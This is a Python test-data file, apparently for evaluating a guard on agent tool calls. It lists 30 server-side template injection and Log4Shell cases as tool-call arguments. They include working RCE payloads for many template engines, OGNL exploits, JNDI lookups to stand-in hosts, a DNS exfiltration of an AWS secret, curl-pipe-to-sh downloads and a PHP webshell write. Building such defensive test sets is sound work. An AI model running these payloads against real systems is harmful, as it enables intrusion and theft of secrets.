"""template_injection: 30 attack cases (SSTI, expression languages, Log4Shell)."""
from common import Collector, b64, html_dec, pct, x_esc

FAMILY = "template_injection"

P = "PayloadsAllTheThings Server Side Template Injection"
PJ = "PayloadsAllTheThings SSTI - Python (Jinja2)"
PJV = "PayloadsAllTheThings SSTI - Java"
PPHP = "PayloadsAllTheThings SSTI - PHP"
PJS = "PayloadsAllTheThings SSTI - JavaScript"
HT = "HackTricks SSTI"
L4 = "CVE-2021-44228 (Log4Shell) write-up"

HANDLEBARS = """{{#with "s" as |string|}}
  {{#with "e"}}
    {{#with split as |conslist|}}
      {{this.pop}}
      {{this.push (lookup string.sub "constructor")}}
      {{this.pop}}
      {{#with string.split as |codelist|}}
        {{this.pop}}
        {{this.push "return require('child_process').execSync('cat /etc/passwd');"}}
        {{this.pop}}
        {{#each conslist}}
          {{#with (string.sub.apply 0 codelist)}}
            {{this}}
          {{/with}}
        {{/each}}
      {{/with}}
    {{/with}}
  {{/with}}
{{/with}}"""

S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
          "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
          "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
          "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
          "(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name')"
          ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
          "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
          "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
          "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")

CONFLUENCE = ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\")"
              ".getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse()"
              ".setHeader(\"X-Cmd-Response\",#a))}")


def cases():
    c = Collector()

    c.add("Jinja2 self.__init__.__globals__ walk to os.popen", PJ, "render.template",
          {"template_id": "welcome_email",
           "variables": {"first_name": "{{ self.__init__.__globals__.__builtins__.__import__('os')"
                                       ".popen('id').read() }}",
                         "plan": "pro"}})

    c.add("Jinja2 cycler.__init__.__globals__.os in a campaign subject", PJ, "marketing.create_campaign",
          {"name": "June promo", "list_id": "lst_8812",
           "subject": "Hi {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
           "body_template": "promo_v2"})

    c.add("Jinja2 attr() filter chain with \\x5f-escaped dunder names", PJ, "notify.preview",
          {"channel": "email",
           "message": "{{ request|attr('application')|attr('" + x_esc("__globals__") + "')|attr('"
                      + x_esc("__getitem__") + "')('" + x_esc("__builtins__") + "')|attr('"
                      + x_esc("__getitem__") + "')('" + x_esc("__import__") + "')('os')|attr('popen')('id')"
                      "|attr('read')() }}"})

    c.add("Jinja2 config object dump leaking SECRET_KEY and DB URI", HT, "support.macro_preview",
          {"macro_body": "Hello {{ config['SECRET_KEY'] }} / {{ config['SQLALCHEMY_DATABASE_URI'] }} / "
                         "{{ config.items() }}",
           "ticket_id": 55120})

    c.add("Jinja2 loop over __subclasses__ to catch_warnings builtins", PJ, "docs.render",
          {"doc": "changelog",
           "context_override": "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=="
                               "'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os')"
                               ".popen('id').read() }}{% endif %}{% endfor %}"})

    c.add("Twig _self.env registerUndefinedFilterCallback exec", PPHP, "invoice.render",
          {"invoice_id": "INV-7781",
           "footer_note": "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"})

    c.add("Twig filter('system') callback", PPHP, "newsletter.preview",
          {"issue": 42, "intro": "{{['cat /etc/passwd']|filter('system')}}"})

    c.add("FreeMarker Execute utility via ?new()", PJV, "report.render",
          {"report": "weekly_kpis",
           "header": "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }"})

    c.add("Velocity Class.forName Runtime exec", PJV, "notification.template_save",
          {"engine": "velocity", "name": "ticket_closed",
           "body": "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))"
                   "#set($ex=$rt.getRuntime().exec('whoami'))$ex.waitFor()"
                   "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])"
                   "$x.valueOf($out.read())#end"})

    c.add("ERB backtick execution inside a mailer preview", "PayloadsAllTheThings SSTI - Ruby",
          "rails.mailer_preview",
          {"mailer": "UserMailer", "action": "welcome", "params": {"nickname": "<%= `id` %>"}})

    c.add("HTML-entity encoded ERB tag reading /etc/passwd", "PayloadsAllTheThings SSTI - Ruby",
          "pages.render_erb",
          {"page": "about", "snippet": html_dec("<%= File.open('/etc/passwd').read %>")})

    c.add("Handlebars constructor-chain RCE (string.sub.apply)", PJS, "hbs.compile",
          {"template": HANDLEBARS, "data": {"name": "preview"}})

    c.add("Thymeleaf __${...}__ preprocessing, percent-encoded in a view path", PJV, "http.get",
          {"url": "https://app.acme-portal.com/doc?lang=" + pct("__${T(java.lang.Runtime).getRuntime()"
                                                                ".exec('id')}__::.x")})

    c.add("SpEL T(java.lang.Runtime) with sh -c array", "HackTricks Expression Language injection", "api.search",
          {"index": "orders",
           "filter": "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c',"
                     "'curl -s http://198.51.100.77/s | sh'})}"})

    c.add("OGNL in the request URI, percent-encoded", "CVE-2022-26134 (Confluence OGNL) write-up",
          "http.request", {"method": "GET", "url": "https://wiki.corp-example.com/" + pct(CONFLUENCE) + "/"})

    c.add("OGNL in the Content-Type header (Struts S2-045)", "CVE-2017-5638 write-up", "api.call",
          {"method": "POST", "url": "https://orders.example-shop.com/struts2-showcase/upload.action",
           "headers": {"Content-Type": S2_045}, "body": ""})

    c.add("Java EL forName/getMethod/invoke chain", "PayloadsAllTheThings SSTI - Java (EL)", "jsf.render",
          {"view": "profile.xhtml",
           "params": {"displayName": "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\")"
                                     ".invoke(null).exec(\"id\")}"}})

    c.add("Log4Shell ${jndi:ldap} in a User-Agent header", L4, "http.request",
          {"method": "GET", "url": "https://status.vendor-portal.com/",
           "headers": {"User-Agent": "${jndi:ldap://198.51.100.44:1389/Exploit}", "Accept": "*/*"}})

    c.add("Log4Shell with ${lower:} lookups splitting jndi:ldap", L4, "support.create_ticket",
          {"subject": "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.dnslog-pwn.cn/a}",
           "body": "My login fails", "priority": "normal"})

    c.add("Log4Shell ${::-x} default-value lookups spelling jndi:rmi", L4, "search.query",
          {"q": "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.45:1099/obj}", "size": 10})

    c.add("Log4Shell DNS exfiltration of an env var", L4, "login.attempt",
          {"username": "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.k3p9.oast.fun/a}", "password": "hunter2"})

    c.add("Log4Shell ${env:NaN:-x} fallbacks in a custom header", L4, "http.request",
          {"method": "GET", "url": "https://api.partner-gateway.com/v1/ping",
           "headers": {"X-Api-Version": "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}"
                                        "//198.51.100.12:1389/a}"}})

    c.add("Log4Shell percent-encoded in a URL query", L4, "browser.open",
          {"url": "https://helpdesk.target-corp.com/search?q=" + pct("${jndi:ldap://203.0.113.91/Basic/Command/"
                                                                     "Base64/aWQ=}"),
           "wait_for": "load"})

    c.add("Mako <% import os %> block", "PayloadsAllTheThings SSTI - Python (Mako)", "render.template",
          {"engine": "mako", "template_id": "receipt",
           "variables": {"note": "<% import os; x=os.popen('cat /etc/passwd').read() %>${x}"}})

    c.add("Smarty Smarty_Internal_Write_File webshell write", PPHP, "cms.save_snippet",
          {"snippet_name": "footer",
           "content": "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
                      "self::clearConfig())}"})

    c.add("Nunjucks range.constructor to child_process", PJS, "docs.nunjucks_preview",
          {"template": "{{range.constructor(\"return global.process.mainModule.require('child_process')"
                       ".execSync('tail /etc/passwd')\")()}}"})

    c.add("Pug unescaped code block loading child_process", PJS, "email.compile_pug",
          {"template": "p Hello\n- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n"
                       "p= x",
           "locals": {"name": "Ana"}})

    c.add("Razor @ expression starting a process", "PayloadsAllTheThings SSTI - ASP.NET Razor",
          "dotnet.razor_preview",
          {"view": "Invoice", "model_override": "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > "
                                                "C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"})

    c.add("Jinja2 lipsum.__globals__ with \\u-escaped braces in a nested JSON string", PJ, "cms.import_page",
          {"format": "json",
           "page": "{\"title\":\"Welcome\",\"greeting\":\"\\u007b\\u007b lipsum.__globals__.os.popen('id').read() "
                   "\\u007d\\u007d\"}"})

    c.add("Jinja2 payload decoding a base64 command before popen", PJ, "chatbot.set_greeting",
          {"bot": "support-bot",
           "greeting": "{{ lipsum.__globals__['os'].popen(lipsum.__globals__['__builtins__']['__import__']"
                       "('base64').b64decode('" + b64("curl -s http://203.0.113.17/x | sh") + "').decode()).read() }}"})

    return c.items
